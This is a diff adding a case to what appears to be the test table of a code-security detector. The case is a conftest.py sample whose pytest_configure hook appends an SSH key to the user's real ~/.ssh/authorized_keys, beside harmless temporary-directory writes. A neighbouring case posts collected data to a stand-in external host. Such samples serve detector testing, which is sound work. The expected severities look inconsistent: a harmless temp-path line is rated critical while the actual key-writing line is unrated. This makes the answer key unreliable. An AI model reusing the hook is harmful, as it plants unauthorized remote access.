@@ -78,6 +78,20 @@ CASES = [
      "conn = http.client.HTTPSConnection('a7x2k9.example.net')\n"
      "conn.request('POST', '/i', json.dumps(info))\n",
      {4: "medium"}),
+    ("authorized-keys-under-pytest-tmp-path-low", "ssh-authorized-key-planted", "conftest.py",
+     "import os, pytest\n"
+     "@pytest.fixture\n"
+     "def ssh_dir(tmp_path):\n"
+     "    d = tmp_path / '.ssh'\n"
+     "    (d / 'authorized_keys').write_text('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITEST test@local')\n"
+     "def test_login(tmpdir):\n"
+     "    open(os.path.join(str(tmpdir), 'authorized_keys'), 'w').write('ssh-ed25519 AAAAC3Nz test')\n"
+     "def pytest_configure(config):\n"
+     "    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as fh:\n"
+     "        fh.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH9x ci@runner')\n"
+     "def helper(tmp_path):\n"
+     "    (tmp_path / 'authorized_keys').write_text('ssh-ed25519 AAAAC3Nz x')\n",
+     {5: "low", 7: "low", 9: "high", 12: "critical"}),
     ("js-whoami-output-is-the-login-name", HOST, "m.js",
      "const { execSync } = require('child_process');\n"
      "const who = execSync('whoami').toString().trim();\n"
